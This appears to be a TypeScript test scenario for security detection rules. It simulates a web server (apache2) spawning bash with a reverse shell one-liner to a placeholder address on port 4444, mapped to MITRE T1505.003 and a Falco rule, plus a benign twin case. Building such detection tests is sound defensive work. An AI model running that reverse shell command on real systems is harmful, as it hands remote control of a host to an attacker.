import { host, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'reverse-shell-from-web-server',
  story: 'A web shell connects a shell to the attacker.',
  technique: 'T1505.003',
  place: host,
  falco: ['Reverse Shell from Web Server'],
  lanner: ['Process Spawned by Web Server'],
  steps: [
    run('/usr/sbin/apache2', {
      does: [run('/bin/bash', { with: ['-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] })],
    }),
  ],
  twin: {
    because: 'the server starts another process of itself.',
    steps: [run('/usr/sbin/apache2', { does: [run('/usr/sbin/apache2', { with: ['-k', 'start'] })] })],
  },
});
